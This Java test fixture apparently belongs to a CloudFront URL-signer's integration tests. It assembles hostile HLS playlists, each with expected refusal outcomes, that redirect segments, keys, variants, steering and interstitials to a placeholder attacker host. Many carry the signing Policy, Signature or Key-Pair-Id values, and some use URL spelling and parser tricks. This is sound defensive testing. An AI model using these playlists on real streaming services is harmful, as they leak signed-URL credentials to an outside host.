package io.quarkiverse.cloudfront.signer.it;

import static io.quarkiverse.cloudfront.signer.it.HostilePlaylist.Outcome.HARMLESS;
import static io.quarkiverse.cloudfront.signer.it.HostilePlaylist.Outcome.REFUSED;
import static io.quarkiverse.cloudfront.signer.it.Player.HLS_JS;
import static io.quarkiverse.cloudfront.signer.it.Player.SHAKA;
import static io.quarkiverse.cloudfront.signer.it.Player.VIDEO_JS;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;

import io.quarkiverse.cloudfront.signer.it.HostilePlaylist.Format;
import io.quarkiverse.cloudfront.signer.it.HostilePlaylist.Outcome;

/**
 * Playlists of HLS that a tenant could upload.
 */
final class HostileHls {

    static final String MEDIA = """
            #EXTM3U
            #EXT-X-VERSION:8
            #EXT-X-TARGETDURATION:2
            #EXT-X-PLAYLIST-TYPE:VOD
            #EXT-X-PROGRAM-DATE-TIME:2026-11-26T10:14:12.000Z
            #EXT-X-MAP:URI="init-2.mp4"
            #EXTINF:2.0,
            segment-2-1.m4s
            #EXTINF:2.0,
            segment-2-2.m4s
            #EXTINF:2.0,
            segment-2-3.m4s
            #EXTINF:2.0,
            segment-2-4.m4s
            #EXTINF:2.0,
            segment-2-5.m4s
            #EXTINF:1.96,
            segment-2-6.m4s
            #EXT-X-ENDLIST
            """;

    static final String SOUND = MEDIA.replace("-2", "-1");

    private static final String MASTER = """
            #EXTM3U
            #EXT-X-VERSION:8
            #EXT-X-STREAM-INF:BANDWIDTH=178366,RESOLUTION=320x214,CODECS="avc1.42c00d"
            media.m3u8
            """;

    private static final String VARIABLES = "?p={$Policy}&s={$Signature}";

    /** The variables of the playlist that refers to it. */
    static final String IMPORTING_MEDIA = importing(MEDIA);
    static final String IMPORTING_SOUND = importing(SOUND);

    static final String ASSETS = """
            {"ASSETS": [{"URI": "EVIL/media.m3u8", "DURATION": 2}]}
            """;

    /** Also for DASH, whose older specification has another name for priorities. */
    static final String STEERING = """
            {"VERSION": 1, "TTL": 300, "PATHWAY-PRIORITY": ["evil", "cdn"], "SERVICE-LOCATION-PRIORITY": ["evil", "cdn"],
             "PATHWAY-CLONES": [{"BASE-ID": "cdn", "ID": "evil", "URI-REPLACEMENT": {"HOST": "%s"}}]}
            """;

    private static final Set<Player> ALL = Set.copyOf(Format.HLS.players);

    /** Without another host. */
    static final HostilePlaylist PLAIN = new HostilePlaylist("plain", Format.HLS, MEDIA, HARMLESS, HARMLESS, HARMLESS, ALL);

    private final List<HostilePlaylist> playlists = new ArrayList<>();

    private HostileHls() {
    }

    static List<HostilePlaylist> playlists() {
        HostileHls hls = new HostileHls();
        hls.addAbsoluteUris();
        hls.addVariables();
        hls.addMultivariant();
        hls.addInterstitials();
        hls.addSpellings();
        hls.addReadings();
        return hls.playlists;
    }

    private void addAbsoluteUris() {
        add("segment", media("segment-2-2.m4s", "EVIL/segment-2-2.m4s"), HARMLESS, REFUSED, HARMLESS, ALL);
        add("map", media("init-2.mp4", "EVIL/init-2.mp4"), HARMLESS, REFUSED, HARMLESS, ALL);
        add("key", media("#EXT-X-MAP", key("EVIL/key.bin")), HARMLESS, REFUSED, HARMLESS, ALL);
    }

    /** A converted playlist declares them, and others may guess their names. */
    private void addVariables() {
        add("segment with variables", media("segment-2-2.m4s", "EVIL/segment-2-2.m4s" + VARIABLES),
                REFUSED, REFUSED, REFUSED, ALL);
        add("map with variables", media("init-2.mp4", "EVIL/init-2.mp4" + VARIABLES), REFUSED, REFUSED, REFUSED, ALL);
        add("key with variables", media("#EXT-X-MAP", key("EVIL/key.bin" + VARIABLES)), REFUSED, REFUSED, REFUSED, ALL);
        add("variables in a path", media("segment-2-2.m4s", "EVIL/{$Signature}/{$Policy}/segment-2-2.m4s"),
                REFUSED, REFUSED, REFUSED, ALL);
        add("variable in a host", media("#EXT-X-MAP", "#EXT-X-DEFINE:NAME=\"cdn\",VALUE=\"EVIL\"\n#EXT-X-MAP")
                .replace("segment-2-2.m4s", "{$cdn}/segment-2-2.m4s" + VARIABLES), REFUSED, REFUSED, REFUSED,
                Set.of(HLS_JS, VIDEO_JS));
        add("variable with variables", media("#EXT-X-MAP",
                "#EXT-X-DEFINE:NAME=\"cdn\",VALUE=\"EVIL/segment-2-2.m4s" + VARIABLES + "\"\n#EXT-X-MAP")
                .replace("segment-2-2.m4s", "{$cdn}"), REFUSED, REFUSED, REFUSED, Set.of());
        add("own declaration", media("#EXT-X-MAP",
                "#EXT-X-DEFINE:QUERYPARAM=\"Key-Pair-Id\"\n#EXT-X-MAP")
                .replace("segment-2-2.m4s", "EVIL/segment-2-2.m4s?k={$Key-Pair-Id}"), REFUSED, REFUSED, HARMLESS, Set.of());
    }

    private void addMultivariant() {
        add("variant", variant("EVIL/media.m3u8"), REFUSED, REFUSED, REFUSED, ALL);
        add("variant with variables", variant("EVIL/media.m3u8" + VARIABLES), REFUSED, REFUSED, REFUSED, ALL);
        add("variant that imports", variant("EVIL/importing.m3u8"), REFUSED, REFUSED, REFUSED, ALL);
        add("rendition", rendition("EVIL/sound.m3u8"), REFUSED, REFUSED, REFUSED, ALL);
        add("rendition with variables", rendition("EVIL/sound.m3u8" + VARIABLES), REFUSED, REFUSED, REFUSED, ALL);
        add("rendition that imports", rendition("EVIL/importing-sound.m3u8"), REFUSED, REFUSED, REFUSED, ALL);
        add("steering", steering("EVIL/steering.json"), REFUSED, REFUSED, REFUSED, Set.of(HLS_JS));
        add("steering with variables", steering("EVIL/steering.json" + VARIABLES), REFUSED, REFUSED, REFUSED,
                Set.of(HLS_JS, SHAKA));
    }

    private void addInterstitials() {
        add("interstitial", interstitial("X-ASSET-URI=\"EVIL/media.m3u8\""), HARMLESS, REFUSED, HARMLESS,
                Set.of(HLS_JS, SHAKA));
        add("interstitial with variables", interstitial("X-ASSET-URI=\"EVIL/media.m3u8" + VARIABLES + "\""),
                REFUSED, REFUSED, REFUSED, Set.of(HLS_JS, SHAKA));
        add("interstitial that imports", interstitial("X-ASSET-URI=\"EVIL/importing.m3u8\""), HARMLESS, REFUSED, HARMLESS,
                Set.of(HLS_JS, SHAKA));
        add("interstitials", interstitial("X-ASSET-LIST=\"EVIL/assets.json\""), HARMLESS, REFUSED, HARMLESS,
                Set.of(HLS_JS, SHAKA));
        add("interstitials with variables", interstitial("X-ASSET-LIST=\"EVIL/assets.json" + VARIABLES + "\""),
                REFUSED, REFUSED, REFUSED, Set.of(HLS_JS, SHAKA));
    }

    /** Browsers resolve all of them to the other host. */
    private void addSpellings() {
        add("without a scheme", media("segment-2-2.m4s", "//EVIL_HOST/segment-2-2.m4s"), HARMLESS, REFUSED, HARMLESS, ALL);
        addSpelling("\\\\EVIL_HOST", REFUSED, REFUSED, Set.of(SHAKA, VIDEO_JS));
        addSpelling("/\\EVIL_HOST", REFUSED, REFUSED, Set.of(SHAKA, VIDEO_JS));
        addSpelling("/\t/EVIL_HOST", REFUSED, REFUSED, Set.of(SHAKA, VIDEO_JS));
        addSpelling("ht\ttp://EVIL_HOST", REFUSED, REFUSED, Set.of(SHAKA, VIDEO_JS));
        // absolute, and therefore not signed
        addSpelling("http:\\\\EVIL_HOST", HARMLESS, REFUSED, ALL);
        addSpelling("http:/\\EVIL_HOST", HARMLESS, REFUSED, ALL);
    }

    /** Some player or library reads more than the specification says. */
    private void addReadings() {
        add("encoded braces", media("segment-2-2.m4s", "EVIL/segment-2-2.m4s?p=%7B$Policy%7D"), REFUSED, REFUSED, HARMLESS,
                Set.of());
        add("value with a replacement pattern", media("#EXT-X-MAP", "#EXT-X-DEFINE:NAME=\"x\",VALUE=\"$'\"\n#EXT-X-MAP")
                .replace("segment-2-2.m4s", "{$x}//EVIL_HOST/segment-2-2.m4s"), REFUSED, HARMLESS, HARMLESS,
                Set.of(VIDEO_JS));
        add("URI in the tag of a variant", master("BANDWIDTH=", "URI=\"EVIL/media.m3u8\",BANDWIDTH="), REFUSED, REFUSED,
                REFUSED,
                Set.of());
        add("carriage return in a comment", media("segment-2-2.m4s", "# a\rEVIL/segment-2-2.m4s"), REFUSED, REFUSED, REFUSED,
                Set.of());
        add("tag in a comment", master("#EXT-X-STREAM-INF", "# #EXT-X-STREAM-INF:BANDWIDTH=99999999\nEVIL/media.m3u8\n"
                + "#EXT-X-STREAM-INF"), REFUSED, REFUSED, REFUSED, Set.of());
        add("variant among segments", media("#EXT-X-ENDLIST", "#EXT-X-STREAM-INF:BANDWIDTH=1\nEVIL/media.m3u8\n#EXT-X-ENDLIST"),
                REFUSED, REFUSED, REFUSED, Set.of());
    }

    private void addSpelling(String host, Outcome converted, Outcome keeping, Set<Player> followers) {
        add("spelling " + host.replace("\t", "TAB"), media("segment-2-2.m4s", host + "/segment-2-2.m4s"), converted, REFUSED,
                keeping, followers);
    }

    private void add(String name, String content, Outcome converted, Outcome perViewer, Outcome keeping,
            Set<Player> followers) {
        playlists.add(new HostilePlaylist(name, Format.HLS, content, converted, perViewer, keeping, followers));
    }

    private static String media(String text, String replacement) {
        return MEDIA.replace(text, replacement);
    }

    private static String master(String text, String replacement) {
        return MASTER.replace(text, replacement);
    }

    private static String key(String uri) {
        return "#EXT-X-KEY:METHOD=AES-128,URI=\"" + uri + "\",IV=0x00000000000000000000000000000001\n#EXT-X-MAP";
    }

    /** Players prefer it, because of its bandwidth. */
    private static String variant(String uri) {
        return MASTER.replace("media.m3u8", uri)
                + "#EXT-X-STREAM-INF:BANDWIDTH=99999999,RESOLUTION=320x214,CODECS=\"avc1.42c00d\"\nmedia.m3u8\n";
    }

    private static String rendition(String uri) {
        return master("#EXT-X-STREAM-INF:",
                "#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",DEFAULT=YES,AUTOSELECT=YES,URI=\""
                        + uri + "\"\n#EXT-X-STREAM-INF:AUDIO=\"a\",")
                .replace("avc1.42c00d", "avc1.42c00d,mp4a.40.2");
    }

    private static String steering(String uri) {
        return master("#EXT-X-STREAM-INF:", "#EXT-X-CONTENT-STEERING:SERVER-URI=\"" + uri
                + "\",PATHWAY-ID=\"cdn\"\n#EXT-X-STREAM-INF:PATHWAY-ID=\"cdn\",");
    }

    /** It lasts as long as the video, because Shaka looks for it at most four times a second. */
    private static String interstitial(String asset) {
        return media("#EXT-X-MAP", "#EXT-X-DATERANGE:ID=\"ad\",CLASS=\"com.apple.hls.interstitial\","
                + "START-DATE=\"2026-11-26T10:14:12.000Z\",DURATION=11.96," + asset + "\n#EXT-X-MAP");
    }

    private static String importing(String playlist) {
        return playlist.replace("#EXT-X-MAP", "#EXT-X-DEFINE:IMPORT=\"Policy\"\n#EXT-X-DEFINE:IMPORT=\"Signature\"\n#EXT-X-MAP")
                .replace(".m4s", ".m4s" + VARIABLES);
    }
}
